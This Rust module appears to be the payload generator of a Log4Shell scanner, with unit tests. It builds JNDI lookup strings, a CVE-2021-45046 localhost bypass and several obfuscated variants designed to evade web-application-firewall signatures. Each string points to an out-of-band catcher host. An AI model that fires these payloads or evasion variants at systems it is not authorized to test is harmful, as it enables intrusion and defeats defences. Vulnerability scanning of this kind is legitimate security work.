//! Trigger payload templates and their rendering.
//!
//! Templates carry three placeholders: `{{proto}}` (the JNDI protocol matching the
//! catcher), `{{caddr}}` (catcher address) and `{{resource}}`, which expands to
//! `<marker>.<resource>` so every rendered payload is traceable to one attempt.

use jndiscan_core::{CatcherKind, Marker, ScanError};
use rand::seq::SliceRandom;
use rand::Rng;
use std::str::FromStr;

const CANONICAL: &str = "${jndi:{{proto}}://{{caddr}}/{{resource}}}";

const CVE_2021_45046: &str = "${jndi:{{proto}}://127.0.0.1#{{caddr}}/{{resource}}}";

/// Equivalent renderings of the lookup aimed at naive signature filters.
const OBFUSCATED: &[(&str, &str)] = &[
    ("waf-lower", "${${lower:jndi}:${lower:{{proto}}}://{{caddr}}/{{resource}}}"),
    ("waf-mixed-case", "${${lower:j}${upper:n}${lower:d}${upper:i}:{{proto}}://{{caddr}}/{{resource}}}"),
    ("waf-default-value", "${${::-j}${::-n}${::-d}${::-i}:{{proto}}://{{caddr}}/{{resource}}}"),
    ("waf-nested-default", "${${::-j}ndi:{{proto}}://{{caddr}}/{{resource}}}"),
    ("waf-env", "${${env:NaN:-j}ndi${env:NaN:-:}{{proto}}://{{caddr}}/{{resource}}}"),
    ("waf-sys", "${j${sys:NaN:-n}di:{{proto}}://{{caddr}}/{{resource}}}"),
    ("waf-date", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:{{proto}}://{{caddr}}/{{resource}}}"),
];

/// A named payload template. `name` ends up in reports as the variant.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadTemplate {
    pub name: String,
    pub template: String,
}

impl PayloadTemplate {
    pub fn new(name: impl Into<String>, template: impl Into<String>) -> Self {
        PayloadTemplate { name: name.into(), template: template.into() }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Obfuscation {
    /// Plain lookup only.
    #[default]
    Canonical,
    /// Every obfuscated rendering.
    All,
    /// One obfuscated rendering picked at random.
    Random,
}

impl FromStr for Obfuscation {
    type Err = ScanError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "none" | "canonical" => Ok(Obfuscation::Canonical),
            "all" => Ok(Obfuscation::All),
            "random" => Ok(Obfuscation::Random),
            _ => Err(ScanError::invalid("obfuscation mode", s)),
        }
    }
}

#[derive(Debug, Clone)]
pub struct PayloadOptions {
    pub catcher: CatcherKind,
    pub caddr: String,
    pub resource: String,
    /// User templates; when non-empty they replace the canonical payload.
    pub custom: Vec<String>,
    /// Obfuscated variants added next to the canonical (or custom) payloads.
    pub obfuscation: Obfuscation,
    pub cve_2021_45046: bool,
}

#[derive(Debug, Clone)]
pub struct PayloadGenerator {
    caddr: String,
    resource: String,
    variants: Vec<PayloadTemplate>,
}

impl PayloadGenerator {
    pub fn new(opts: &PayloadOptions) -> Self {
        let proto = opts.catcher.protocol();
        let mut variants: Vec<PayloadTemplate> = if opts.custom.is_empty() {
            vec![canonical(proto)]
        } else {
            opts.custom.iter().enumerate().map(|(i, t)| PayloadTemplate::new(format!("custom-{}", i + 1), t.replace("{{proto}}", proto))).collect()
        };
        variants.extend(obfuscated(proto, opts.obfuscation));
        if opts.cve_2021_45046 { variants.push(PayloadTemplate::new("cve-2021-45046", CVE_2021_45046.replace("{{proto}}", proto))); }
        tracing::debug!(count = variants.len(), proto, "payload variants prepared");
        PayloadGenerator { caddr: opts.caddr.clone(), resource: opts.resource.trim_matches('.').to_string(), variants }
    }

    /// Every variant each injection point is attempted with.
    pub fn variants(&self) -> &[PayloadTemplate] { &self.variants }

    pub fn resource(&self) -> &str { &self.resource }

    /// Render any template (payload or fixed value) for one attempt.
    pub fn render(&self, template: &str, marker: &Marker) -> String {
        template
            .replace("{{caddr}}", &self.caddr)
            .replace("{{resource}}", &format!("{}.{}", marker, self.resource))
    }
}

pub fn canonical(proto: &str) -> PayloadTemplate {
    PayloadTemplate::new("canonical", CANONICAL.replace("{{proto}}", proto))
}

/// Obfuscated templates for `proto`. `Canonical` yields nothing.
pub fn obfuscated(proto: &str, mode: Obfuscation) -> Vec<PayloadTemplate> {
    obfuscated_with(proto, mode, &mut rand::thread_rng())
}

fn obfuscated_with<R: Rng + ?Sized>(proto: &str, mode: Obfuscation, rng: &mut R) -> Vec<PayloadTemplate> {
    let build = |(name, t): &(&str, &str)| PayloadTemplate::new(*name, t.replace("{{proto}}", proto));
    match mode {
        Obfuscation::Canonical => Vec::new(),
        Obfuscation::All => OBFUSCATED.iter().map(build).collect(),
        Obfuscation::Random => OBFUSCATED.choose(rng).map(build).into_iter().collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    fn opts() -> PayloadOptions {
        PayloadOptions { catcher: CatcherKind::Dns, caddr: "10.0.0.5:53".into(), resource: "l4s".into(), custom: vec![], obfuscation: Obfuscation::Canonical, cve_2021_45046: false }
    }

    #[test]
    fn canonical_payload_embeds_marker_and_catcher() {
        let gen = PayloadGenerator::new(&opts());
        assert_eq!(gen.variants().len(), 1);
        let m = Marker::new();
        let p = gen.render(&gen.variants()[0].template, &m);
        assert_eq!(p, format!("${{jndi:dns://10.0.0.5:53/{}.l4s}}", m));
    }

    #[test]
    fn ldap_and_tcp_catchers_use_ldap_lookups() {
        for kind in [CatcherKind::Ldap, CatcherKind::Tcp, CatcherKind::None] {
            let gen = PayloadGenerator::new(&PayloadOptions { catcher: kind, ..opts() });
            assert!(gen.variants()[0].template.starts_with("${jndi:ldap://"));
        }
    }

    #[test]
    fn waf_bypass_adds_full_obfuscation_set() {
        let gen = PayloadGenerator::new(&PayloadOptions { obfuscation: Obfuscation::All, ..opts() });
        assert_eq!(gen.variants().len(), 1 + OBFUSCATED.len());
        let m = Marker::new();
        let rendered: HashSet<String> = gen.variants().iter().map(|v| gen.render(&v.template, &m)).collect();
        assert_eq!(rendered.len(), gen.variants().len());
        for p in &rendered {
            assert!(p.contains(&format!("10.0.0.5:53/{}.l4s", m)), "{}", p);
            assert!(!p.contains("{{"));
        }
    }

    #[test]
    fn cve_check_adds_localhost_bypass_variant() {
        let gen = PayloadGenerator::new(&PayloadOptions { cve_2021_45046: true, catcher: CatcherKind::Ldap, ..opts() });
        let v = gen.variants().iter().find(|v| v.name == "cve-2021-45046").unwrap();
        let m = Marker::new();
        assert_eq!(gen.render(&v.template, &m), format!("${{jndi:ldap://127.0.0.1#10.0.0.5:53/{}.l4s}}", m));
    }

    #[test]
    fn custom_templates_replace_canonical() {
        let gen = PayloadGenerator::new(&PayloadOptions { custom: vec!["${jndi:{{proto}}://{{caddr}}/x/{{resource}}}".into()], ..opts() });
        assert_eq!(gen.variants().len(), 1);
        assert_eq!(gen.variants()[0].name, "custom-1");
        let m = Marker::new();
        assert_eq!(gen.render(&gen.variants()[0].template, &m), format!("${{jndi:dns://10.0.0.5:53/x/{}.l4s}}", m));
    }

    #[test]
    fn random_obfuscation_picks_one_member_of_the_set() {
        let all = obfuscated("ldap", Obfuscation::All);
        let one = obfuscated("ldap", Obfuscation::Random);
        assert_eq!(one.len(), 1);
        assert!(all.contains(&one[0]));
        assert!(obfuscated("ldap", Obfuscation::Canonical).is_empty());

        let gen = PayloadGenerator::new(&PayloadOptions { obfuscation: Obfuscation::Random, ..opts() });
        assert_eq!(gen.variants().len(), 2);
        assert!(gen.variants()[1].name.starts_with("waf-"));
    }

    #[test]
    fn obfuscation_modes_parse() {
        assert_eq!("ALL".parse::<Obfuscation>().unwrap(), Obfuscation::All);
        assert_eq!("random".parse::<Obfuscation>().unwrap(), Obfuscation::Random);
        assert_eq!("none".parse::<Obfuscation>().unwrap(), Obfuscation::Canonical);
        assert!("some".parse::<Obfuscation>().is_err());
    }
}
